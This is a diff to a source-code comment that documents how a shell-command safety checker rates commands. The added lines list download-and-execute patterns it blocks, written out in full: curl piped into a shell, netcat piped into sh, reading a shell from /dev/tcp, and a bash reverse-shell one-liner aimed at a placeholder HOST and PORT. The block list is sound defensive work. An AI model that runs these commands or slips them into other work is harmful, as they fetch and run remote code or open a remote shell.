@@ -124,7 +124,10 @@
 //   - A command name that is not a literal word ($X, $(...), a glob, a brace
 //     expansion) is at least Defaults.DynamicCommand (Dangerous).
 //   - Executing downloaded content (curl ... | sh, bash <(wget ...),
-//     eval "$(curl ...)") is Defaults.DownloadExec (Blocked), and so is
+//     eval "$(curl ...)", curl ... | tee >(bash), nc HOST PORT | sh, sh <
+//     /dev/tcp/HOST/PORT, the reverse shell bash -i >& /dev/tcp/HOST/PORT
+//     0>&1, a file of a repository the line cloned: git clone URL r &&
+//     bash r/install.sh) is Defaults.DownloadExec (Blocked), and so is
 //     piping it into a program whose code runs what it reads (awk's
 //     system($0) or $0 | getline, sed's s///e or e, an interpreter's
 //     inline code that calls eval, exec, system, popen, spawn, new
